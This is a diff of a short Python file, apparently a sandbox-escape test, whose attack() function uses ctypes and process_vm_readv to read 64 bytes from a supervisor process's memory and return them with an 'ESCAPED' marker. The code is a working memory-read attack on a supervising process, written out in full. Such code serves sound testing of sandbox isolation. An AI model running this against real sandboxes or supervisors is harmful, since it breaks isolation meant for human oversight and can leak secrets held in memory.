@@ -9,23 +9,15 @@ import ctypes
 
 import target
 
-
-class Part(ctypes.Structure):
-    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
+Pointer = ctypes.POINTER(ctypes.c_char)
 
 
 def attack():
     libc = ctypes.CDLL(None, use_errno=True)
-    libc.process_vm_readv.argtypes = [
-        ctypes.c_int,
-        ctypes.c_void_p,
-        ctypes.c_ulong,
-        ctypes.c_void_p,
-        ctypes.c_ulong,
-        ctypes.c_ulong,
-    ]
     buffer = ctypes.create_string_buffer(64)
-    address = ctypes.c_void_p.in_dll(libc, "environ").value  # the same program in a fork: the same place
-    here, there = Part(ctypes.addressof(buffer), 64), Part(id(None), 16)
-    size = libc.process_vm_readv(target.SUPERVISOR_PID, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
-    return f"ESCAPED: read {size} bytes" if size > 0 else ""
+    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
+    there = (ctypes.c_size_t * 2)(target.SUPERVISOR_MEMORY, 64)
+    size = libc.process_vm_readv(
+        target.SUPERVISOR_PID, here, ctypes.c_ulong(1), there, ctypes.c_ulong(1), ctypes.c_ulong(0)
+    )
+    return "ESCAPED: " + buffer.value.decode() if size > 0 else f"error {ctypes.get_errno()}"
